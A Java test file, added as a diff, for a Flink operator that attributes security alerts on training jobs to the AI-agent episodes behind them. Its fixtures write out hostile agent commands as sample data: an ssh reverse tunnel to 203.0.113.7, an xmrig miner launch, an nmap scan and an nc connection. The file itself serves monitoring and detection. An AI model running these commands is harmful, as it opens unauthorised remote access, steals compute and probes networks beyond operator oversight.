@@ -1,0 +1,294 @@
+package io.vigil.pipeline.detect;
+
+import static io.vigil.pipeline.detect.IncidentsTest.JOB;
+import static io.vigil.pipeline.detect.IncidentsTest.at;
+import static io.vigil.pipeline.detect.IncidentsTest.window;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.vigil.records.AgentEpisode;
+import io.vigil.records.AgentEvent;
+import io.vigil.records.Alert;
+import io.vigil.records.Category;
+import io.vigil.records.Destination;
+import io.vigil.records.EpisodeFlag;
+import io.vigil.records.Evidence;
+import io.vigil.records.GpuProcess;
+import io.vigil.records.GpuSample;
+import io.vigil.records.IncidentState;
+import io.vigil.records.ProcessEvidence;
+import io.vigil.records.Severity;
+import io.vigil.records.TransitionCause;
+import java.time.Instant;
+import java.util.List;
+import org.apache.flink.api.common.typeinfo.Types;
+import org.apache.flink.streaming.api.watermark.Watermark;
+import org.apache.flink.streaming.runtime.streamrecord.StreamRecord;
+import org.apache.flink.streaming.util.KeyedOneInputStreamOperatorTestHarness;
+import org.apache.flink.streaming.util.ProcessFunctionTestHarnesses;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+
+/**
+ * Agent context on Flink's harness: an alert waits for the calls of its window, names the episode behind its
+ * first suspicious packet or new GPU process, and nothing of a job is left a horizon after its last record.
+ */
+class AgentContextHarnessTest {
+    KeyedOneInputStreamOperatorTestHarness<String, AgentContextInput, Alert> harness;
+
+    @BeforeEach
+    void open() throws Exception {
+        harness = ProcessFunctionTestHarnesses.forKeyedProcessFunction(
+                new AgentContext(), AgentContextInput::jobId, Types.STRING);
+    }
+
+    @AfterEach
+    void close() throws Exception {
+        harness.close();
+    }
+
+    static AgentEvent call(String episode, long startMs, long endMs, String command) {
+        return AgentEvent.newBuilder()
+                .setTs(Instant.ofEpochMilli(endMs))
+                .setStartTs(Instant.ofEpochMilli(startMs))
+                .setJobId(JOB)
+                .setEpisodeId(episode)
+                .setStep(1L)
+                .setRolloutWorker("rollout-1")
+                .setNode("gpu-1")
+                .setTool("bash")
+                .setCommand(command)
+                .setExitCode(0)
+                .setSandbox(null)
+                .build();
+    }
+
+    void send(AgentEvent call) throws Exception {
+        harness.processElement(
+                new StreamRecord<>(AgentContextInput.of(call), call.getTs().toEpochMilli()));
+    }
+
+    void seen(String ip, int port, long ts) throws Exception {
+        AgentContextInput in = new AgentContextInput();
+        in.jobId = JOB;
+        in.seen = AgentContextInput.endpoint(ip, port);
+        in.seenTs = ts;
+        harness.processElement(new StreamRecord<>(in, ts));
+    }
+
+    void sample(String process, long ts) throws Exception {
+        GpuSample s = GpuSample.newBuilder()
+                .setTs(Instant.ofEpochMilli(ts))
+                .setNode("gpu-1")
+                .setGpu(0)
+                .setJobId(JOB)
+                .setUtil(90)
+                .setProcesses(List.of(GpuProcess.newBuilder()
+                        .setPid(7)
+                        .setName(process)
+                        .setUsedMib(100)
+                        .build()))
+                .build();
+        for (AgentContextInput in : AgentContextInput.of(s)) {
+            harness.processElement(new StreamRecord<>(in, ts));
+        }
+    }
+
+    void alert(Alert a) throws Exception {
+        harness.processElement(
+                new StreamRecord<>(AgentContextInput.of(a), a.getWindowEnd().toEpochMilli()));
+    }
+
+    static Alert tunnelAlert(int minute) {
+        Alert w = window(minute, 0.8, Severity.HIGH, Category.REVERSE_TUNNEL);
+        return Alert.newBuilder(w)
+                .setEvidence(new Evidence(
+                        List.of(new Destination("203.0.113.7", 22, "tcp", true, 4_000L, 3L, 0L)),
+                        List.of(new ProcessEvidence("python", List.of(0), 2_000L)),
+                        3L,
+                        10L))
+                .build();
+    }
+
+    @Test
+    void anAlertWaitsForItsCallsAndNamesTheTunnelsEpisodeFirst() throws Exception {
+        long first = at(3) + 10_000;
+        sample("python", at(0));
+        send(call("ep-benign", first - 3_000, first - 2_000, "pytest -q"));
+        seen("203.0.113.7", 22, first);
+        alert(tunnelAlert(3));
+        harness.processWatermark(new Watermark(at(4)));
+        assertThat(harness.extractOutputValues())
+                .as("waits for calls that end after the window")
+                .isEmpty();
+
+        // the tunnel's call started before the packet but ended after the window: it still arrives in time
+        send(call("ep-tunnel", first - 1_800, at(4) + 5_000, "ssh -N -R 2222:localhost:22 agent@203.0.113.7"));
+        harness.processWatermark(new Watermark(at(4) + AgentContext.CALL_GRACE_MS));
+
+        List<Alert> out = harness.extractOutputValues();
+        assertThat(out).hasSize(1);
+        assertThat(out.get(0).getAgentContext())
+                .extracting(AgentEpisode::getEpisodeId)
+                .containsExactly("ep-tunnel", "ep-benign");
+        assertThat(out.get(0).getAgentContext().get(0).getReason())
+                .isEqualTo("tool call started 1.8 s before the first packet to 203.0.113.7:22; command names"
+                        + " 203.0.113.7; command contains ssh -R");
+    }
+
+    @Test
+    void aNewGpuProcessAnchorsAndTheJobsOwnDoesNot() throws Exception {
+        sample("python", at(0));
+        send(call("ep-miner", at(2) + 1_000, at(2) + 2_000, "nohup ./xmrig -o pool.example:3333 &"));
+        sample("xmrig", at(2) + 9_000);
+        Alert w = window(2, 0.9, Severity.CRITICAL, Category.CRYPTO_MINING);
+        alert(Alert.newBuilder(w)
+                .setEvidence(new Evidence(
+                        List.of(),
+                        List.of(
+                                new ProcessEvidence("python", List.of(0), 2_000L),
+                                new ProcessEvidence("xmrig", List.of(0), 900L)),
+                        0L,
+                        10L))
+                .build());
+        harness.processWatermark(new Watermark(at(3) + AgentContext.CALL_GRACE_MS));
+
+        Alert out = harness.extractOutputValues().get(0);
+        assertThat(out.getAgentContext()).extracting(AgentEpisode::getEpisodeId).containsExactly("ep-miner");
+        assertThat(out.getAgentContext().get(0).getReason())
+                .startsWith("tool call started 8.0 s before the first sample of GPU process xmrig");
+    }
+
+    @Test
+    void aJobWithoutAgentEventsGetsItsAlertsUnchangedAndAtOnce() throws Exception {
+        seen("203.0.113.7", 22, at(3) + 10_000);
+        Alert a = tunnelAlert(3);
+        alert(a);
+
+        // no wait for calls a job never tells: the alert leaves before any watermark
+        assertThat(harness.extractOutputValues()).containsExactly(a);
+        assertThat(harness.numEventTimeTimers()).isEqualTo(1); // the sighting's minute, nothing for the alert
+    }
+
+    @Test
+    void nothingOfAJobIsLeftAHorizonAfterItsLastRecord() throws Exception {
+        sample("python", at(0));
+        for (int i = 0; i < AgentContext.MAX_CALLS_PER_MINUTE + 50; i++) {
+            send(call("ep-" + i, at(1) + i, at(1) + i + 10, "ls"));
+        }
+        send(call("ep-nc", at(3) + 9_000, at(3) + 9_500, "nc 203.0.113.7 22"));
+        seen("203.0.113.7", 22, at(3) + 10_000);
+        Alert open = Alert.newBuilder(tunnelAlert(3))
+                .setIncidentId("incident-1")
+                .setIncidentState(IncidentState.OPEN)
+                .build();
+        alert(open);
+        alert(Alert.newBuilder(open).setIncidentState(IncidentState.CLOSE).build());
+        harness.processWatermark(new Watermark(at(4) + AgentContext.CALL_GRACE_MS));
+        assertThat(harness.extractOutputValues()).hasSize(2);
+        assertThat(harness.extractOutputValues())
+                .allSatisfy(a -> assertThat(a.getAgentContext())
+                        .extracting(AgentEpisode::getEpisodeId)
+                        .startsWith("ep-nc"));
+        assertThat(harness.numKeyedStateEntries()).isPositive();
+
+        harness.processWatermark(new Watermark(at(4) + AgentContext.HORIZON_MS + 60_000));
+
+        assertThat(harness.numKeyedStateEntries()).isZero();
+        assertThat(harness.numEventTimeTimers()).isZero();
+    }
+
+    /**
+     * A scan opens an incident, the same episode goes on, then a tunnel joins: each episode is flagged once, by the
+     * transition that first named it, with the incident's categories and its calls; the tunnel's transition names the
+     * ssh call's episode first though the scanner's call is nearer to the scan's packets; the CLOSE flags nothing.
+     */
+    @Test
+    void eachEpisodeAnIncidentNamesIsFlaggedOnce() throws Exception {
+        sample("python", at(0));
+        seen("198.51.100.10", 443, at(0));
+        send(call("ep-scan", at(2) + 8_000, at(2) + 50_000, "nmap -sS -p 22,80 10.0.50.7 10.0.50.8"));
+        seen("10.0.50.7", 22, at(2) + 9_000);
+        Alert scanWindow = Alert.newBuilder(window(2, 0.8, Severity.HIGH, Category.NETWORK_SCAN))
+                .setEvidence(new Evidence(
+                        List.of(new Destination("10.0.50.7", 22, "tcp", false, 0L, 1L, 1L)), List.of(), 1L, 0L))
+                .build();
+        Alert open = Incidents.open(scanWindow);
+        alert(open);
+        harness.processWatermark(new Watermark(at(3) + AgentContext.CALL_GRACE_MS));
+
+        send(call("ep-tunnel", at(4) + 1_000, at(4) + 1_500, "ssh -f -N -R 2222:localhost:22 agent@203.0.113.7"));
+        seen("203.0.113.7", 22, at(4) + 4_000);
+        seen("10.0.50.8", 80, at(4) + 9_000);
+        Alert both = Alert.newBuilder(window(4, 0.9, Severity.HIGH, Category.NETWORK_SCAN, Category.REVERSE_TUNNEL))
+                .setEvidence(new Evidence(
+                        List.of(
+                                new Destination("203.0.113.7", 22, "tcp", true, 9_000L, 2L, 0L),
+                                new Destination("10.0.50.8", 80, "tcp", false, 0L, 1L, 1L)),
+                        List.of(),
+                        3L,
+                        0L))
+                .build();
+        Alert joined = Alert.newBuilder(both)
+                .setIncidentId(open.getIncidentId())
+                .setAlertId("joined")
+                .setIncidentState(IncidentState.UPDATE)
+                .setTransitionCauses(List.of(TransitionCause.CATEGORY_JOINED))
+                .setIncidentCategories(List.of(Category.NETWORK_SCAN, Category.REVERSE_TUNNEL))
+                .setJoinedCategories(List.of(Category.REVERSE_TUNNEL))
+                .build();
+        alert(joined);
+        alert(Alert.newBuilder(joined)
+                .setAlertId("close")
+                .setIncidentState(IncidentState.CLOSE)
+                .setTransitionCauses(List.of(TransitionCause.JOB_STOPPED))
+                .setJoinedCategories(List.of())
+                .build());
+        harness.processWatermark(new Watermark(at(5) + AgentContext.CALL_GRACE_MS));
+
+        assertThat(harness.extractOutputValues())
+                .extracting(a -> a.getAgentContext().get(0).getEpisodeId())
+                .containsExactly("ep-scan", "ep-tunnel", "ep-tunnel");
+        List<EpisodeFlag> flags = harness.getSideOutput(AgentContext.EPISODE_FLAGS).stream()
+                .map(StreamRecord::getValue)
+                .toList();
+        assertThat(flags).extracting(EpisodeFlag::getEpisodeId).containsExactly("ep-scan", "ep-tunnel");
+        assertThat(flags.get(0).getAlertId()).isEqualTo(open.getAlertId());
+        assertThat(flags.get(0).getRank()).isEqualTo(1);
+        assertThat(flags.get(1).getAlertId()).isEqualTo("joined");
+        assertThat(flags.get(1).getCategories()).containsExactly(Category.NETWORK_SCAN, Category.REVERSE_TUNNEL);
+        assertThat(flags.get(1).getCalls())
+                .singleElement()
+                .satisfies(c -> assertThat(c.getCommand()).startsWith("ssh -f -N -R"));
+        assertThat(flags)
+                .extracting(EpisodeFlag::getFlagId)
+                .containsExactly(
+                        Alerts.flagId(open.getIncidentId(), "ep-scan"),
+                        Alerts.flagId(open.getIncidentId(), "ep-tunnel"));
+    }
+
+    /**
+     * A long connection re-reported every minute, counting from its start (the tracker's, from minute 0), keeps the
+     * job's kept history reaching a horizon back: a tunnel past the horizon still anchors and names its call.
+     */
+    @Test
+    void aLongConnectionReReportedKeepsTheJobsHistoryReachingBack() throws Exception {
+        int late = (int) (AgentContext.HORIZON_MS / 60_000) + 4;
+        for (int minute = 0; minute <= late + 1; minute++) {
+            harness.processWatermark(new Watermark(at(minute)));
+            seen("198.51.100.10", 443, at(0));
+            if (minute == late) {
+                send(call("ep-nc", at(late) + 9_000, at(late) + 9_500, "nc 203.0.113.7 22"));
+                seen("203.0.113.7", 22, at(late) + 10_000);
+                alert(tunnelAlert(late));
+            }
+        }
+        harness.processWatermark(new Watermark(at(late + 1) + AgentContext.CALL_GRACE_MS));
+
+        assertThat(harness.extractOutputValues())
+                .singleElement()
+                .satisfies(a -> assertThat(a.getAgentContext())
+                        .extracting(AgentEpisode::getEpisodeId)
+                        .containsExactly("ep-nc"));
+    }
+}
